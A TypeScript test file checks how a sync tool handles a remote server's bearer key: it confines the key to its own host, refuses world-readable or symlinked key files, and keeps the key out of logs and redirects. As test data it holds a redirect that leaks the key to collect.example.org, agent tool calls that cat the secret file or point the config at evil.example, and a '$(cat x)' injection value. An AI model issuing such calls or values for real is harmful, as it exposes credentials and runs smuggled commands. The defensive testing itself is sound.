// The key of another server: from a variable or a private file, to that host alone, in a header alone.

import { chmodSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Receipt } from "codicil";
import { bodyOf } from "../documentServer.ts";
import type { World } from "../kit.ts";
import { applied, put, remoteWorld, serve, statusOf } from "./remoteRig.ts";

const KEY = "k3y-0f-the-t3am-9a8b7c6d5e4f";
const bearers = (requests: readonly { headers: { authorization?: string | undefined } }[]) =>
  requests.map(({ headers }) => headers.authorization ?? null);

/** Wants the key, as a server with a login does. */
const guarded = () =>
  serve((request, response) => {
    if (request.headers.authorization === `Bearer ${KEY}`) return false;
    request.resume();
    response.writeHead(401).end();
    return true;
  });

/** Everything that a run said or left, so that a key can be looked for in it. */
function everythingIn(world: World): string {
  return ["home/last-word", "home/last-word/staging", "state/remote", "state/journal"]
    .flatMap((folder) =>
      world
        .names(folder)
        .filter((name) => /\.(?:yaml|jsonl)$/.test(name))
        .map((name) => world.read(`${folder}/${name}`)),
    )
    .join("\n");
}

describe("LW-90 the key of another server", () => {
  it("from an environment variable: the server gets it, nobody else sees it", async () => {
    const { url, host, shelf } = await guarded();
    const world = remoteWorld({ host, key_from: "TEAM_KEY" });
    put(world, url, "- two", "e_1");
    const ran = await world.ask(["apply", "--json"], { env: { TEAM_KEY: KEY } });
    expect(ran.json<Receipt[]>().map(({ status }) => status)).toEqual(["applied"]);
    expect(new Set(bearers(shelf.requests))).toEqual(new Set([`Bearer ${KEY}`]));
    expect(shelf.requests.some((each) => each.url.includes(KEY))).toBe(false);
    expect(ran.out + ran.err + everythingIn(world) + shelf.text).not.toContain(KEY);
  });

  it("from a private file of the state", async () => {
    const { url, host, shelf } = await guarded();
    const world = remoteWorld({ host, key_file: "team.secret" });
    world.write("state/team.secret", `${KEY}\n`);
    chmodSync(join(world.state, "team.secret"), 0o600);
    put(world, url, "- two", "e_1");
    expect((await applied(world)).map(({ status }) => status)).toEqual(["applied"]);
    expect(shelf.writes).toBe(1);
  });

  it("a file that others may read, or that is a link, is no key; the entry waits and nothing is asked", async () => {
    const { url, host, shelf } = await guarded();
    const world = remoteWorld({ host, key_file: "team.secret" });
    put(world, url, "- two", "e_1");
    const file = world.write("state/team.secret", `${KEY}\n`);
    chmodSync(file, 0o644);
    const [readable] = await applied(world);
    expect([readable?.status, readable?.why?.includes("others may read it")]).toEqual(["pending", true]);
    const other = join(world.root, "elsewhere");
    writeFileSync(other, KEY, { mode: 0o600 });
    symlinkSync(other, join(world.state, "linked.secret"));
    world.write("home/last-word/config.yaml", `remotes: ${JSON.stringify([{ host, key_file: "linked.secret" }])}\n`);
    const [linked] = await applied(world);
    expect([linked?.status, linked?.why?.includes("it is a link")]).toEqual(["pending", true]);
    expect(shelf.requests).toEqual([]);
  });

  it("a variable that is not set: the entry waits, nothing is asked, and it goes when the key is there", async () => {
    const { url, host, shelf } = await guarded();
    const world = remoteWorld({ host, key_from: "TEAM_KEY" });
    put(world, url, "- two", "e_1");
    const [receipt] = await applied(world);
    expect([receipt?.status, receipt?.why?.includes("TEAM_KEY is not set")]).toEqual(["pending", true]);
    expect(shelf.requests).toEqual([]);
    expect((await applied(world, { TEAM_KEY: KEY })).map(({ status }) => status)).toEqual(["applied"]);
  });

  it("a wrong key, or none: staging, with what to do", async () => {
    const { url, host } = await guarded();
    const world = remoteWorld(host);
    put(world, url, "- two", "e_1");
    expect((await applied(world)).map(({ status }) => status)).toEqual(["staged"]);
    expect((await statusOf(world)).staged[0]?.message).toContain("it needs a key");
  });

  it("another host, another port and every redirect come without it", async () => {
    const elsewhere = await serve();
    const { url, host, shelf } = await serve((request, response) => {
      if (request.url !== "/team.md" || request.method !== "GET") return false;
      response.writeHead(302, { location: elsewhere.url }).end();
      return true;
    });
    const world = remoteWorld({ host, key_from: "TEAM_KEY" }, elsewhere.host);
    put(world, url, "- two", "e_1");
    await applied(world, { TEAM_KEY: KEY });
    expect(bearers(shelf.requests)[0]).toBe(`Bearer ${KEY}`);
    expect(elsewhere.shelf.requests.length).toBeGreaterThan(0);
    expect(new Set(bearers(elsewhere.shelf.requests))).toEqual(new Set([null]));
    // Even back at the first host: whoever leads away and back might have changed the address.
    const circle = await serve((request, response) => {
      if (request.url !== "/team.md") return false;
      response.writeHead(302, { location: "/second.md" }).end();
      return true;
    });
    const second = remoteWorld({ host: circle.host, key_from: "TEAM_KEY" });
    put(second, circle.url, "- two", "e_1");
    await applied(second, { TEAM_KEY: KEY });
    expect(bearers(circle.shelf.requests)).toEqual([`Bearer ${KEY}`, null]);
  });

  it("a server that repeats the key in where it leads finds it nowhere in what we say or keep", async () => {
    const { url, host } = await serve((request, response) => {
      request.resume();
      response.writeHead(302, { location: `https://collect.example.org/?k=${String(request.headers.authorization).slice(7)}` }).end();
      return true;
    });
    const world = remoteWorld({ host, key_from: "TEAM_KEY" });
    put(world, url, "- two", "e_1");
    const ran = await world.ask(["apply", "--json"], { env: { TEAM_KEY: KEY } });
    expect(ran.json<Receipt[]>().map(({ status }) => status)).toEqual(["staged"]);
    expect(ran.out + ran.err + everythingIn(world)).not.toContain(KEY);
    expect(everythingIn(world)).toContain("[key]");
  });

  it("in a URL or in a text it is refused", async () => {
    const { url, host, shelf } = await guarded();
    const world = remoteWorld({ host, key_from: "TEAM_KEY" });
    const plan = async (...args: string[]) =>
      (
        await world.ask(["plan", "--heading", "Facts", "--op", "append", "--session", "s1", "--json", ...args], { env: { TEAM_KEY: KEY } })
      ).json<Receipt>();
    for (const receipt of [
      await plan("--url", `${url}?k=${KEY}`, "--content", "- two"),
      await plan("--url", url, "--content", `- the key is ${KEY}`),
    ]) {
      expect([receipt.status, receipt.why?.startsWith("SECRET")]).toEqual(["refused", true]);
    }
    put(world, `${url}?k=${KEY}`, "- two", "e_1");
    expect((await applied(world, { TEAM_KEY: KEY })).map(({ status }) => status)).toEqual(["staged"]);
    expect(shelf.requests).toEqual([]);
  });

  it("no agent's call reads the file, makes a token, or names a host", async () => {
    const world = remoteWorld("kb.example.org");
    world.write("state/team.secret", KEY);
    const calls = [
      { tool: "read", path: `${world.state}/team.secret` },
      { tool: "shell", command: `cat ${world.state}/team.secret` },
      { tool: "shell", command: "codicil token --machine evil --documents all" },
      { tool: "edit", path: `${world.home}/last-word/config.yaml`, content: "remotes: [evil.example]" },
    ];
    const ran = await world.ask(["policy", "check", "--jsonl"], {
      input: calls.map((call, id) => JSON.stringify({ id, call })).join("\n"),
    });
    const verdicts = ran.out
      .trim()
      .split("\n")
      .map((line) => (JSON.parse(line) as { verdict: string }).verdict);
    expect(verdicts.length).toBe(calls.length);
    expect(verdicts.filter((verdict) => verdict === "allow" || verdict === "rewrite")).toEqual([]);
  });

  it("what a repository brings can name neither host nor key", async () => {
    const { url, host, shelf } = await guarded();
    const world = remoteWorld();
    const remotes = `remotes: ${JSON.stringify([{ host, key_from: "TEAM_KEY" }])}\n`;
    for (const path of [".agents/config.yaml", "last-word/config.yaml", ".agents/last-word/config.yaml", "config.yaml"])
      world.write(`project/${path}`, remotes);
    put(world, url, "- two", "e_1");
    expect((await applied(world, { TEAM_KEY: KEY })).map(({ status }) => status)).toEqual(["staged"]);
    expect(shelf.requests).toEqual([]);
  });

  it.each([
    ["the key itself", { key: KEY }],
    ["a path out of the state", { key_file: "../team.secret" }],
    ["something that is no variable", { key_from: "$(cat x)" }],
  ])("config.yaml with %s is refused with its line", async (_, wrong) => {
    const world = remoteWorld({ host: "kb.example.org", ...wrong });
    const ran = await world.ask(["status", "--json"]);
    expect([ran.code, ran.json<{ error: { code: string; line?: number } }>().error.code]).toEqual([3, "BAD_CONFIG"]);
    expect(ran.out + ran.err).not.toContain(KEY);
  });

  it("a write that is refused half-way (the key was taken back) leaves the entry to a person, once", async () => {
    let mayWrite = false;
    const { url, host, shelf } = await serve((request, response) => {
      if (request.method !== "PUT" || mayWrite) return false;
      void bodyOf(request).then(() => response.writeHead(403).end());
      return true;
    });
    const world = remoteWorld({ host, key_from: "TEAM_KEY" });
    put(world, url, "- two", "e_1");
    expect((await applied(world, { TEAM_KEY: KEY })).map(({ status }) => status)).toEqual(["staged"]);
    mayWrite = true;
    const resolved = (await world.ask(["resolve", url, "--take", "entry", "--json"], { env: { TEAM_KEY: KEY } })).json<Receipt[]>();
    expect([resolved.map(({ status }) => status), shelf.writes]).toEqual([["applied"], 1]);
  });
});
